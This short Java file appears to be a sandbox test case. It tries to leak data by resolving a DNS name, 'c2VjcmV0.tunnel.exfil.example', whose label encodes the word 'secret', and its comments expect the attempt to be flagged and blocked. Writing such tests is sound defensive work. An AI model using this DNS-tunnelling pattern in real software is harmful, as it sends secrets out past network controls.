// attack: leak data through DNS lookups of names that encode it
// expect: VIOLATION DNS
// stopped-by: no resolver (empty resolv.conf) and no network: no query leaves
import java.net.InetAddress;
public class DnsTunnel {
  public static void main(String[] args) throws Exception {
    InetAddress.getByName("c2VjcmV0.tunnel.exfil.example");
    System.exit(42);
  }
}
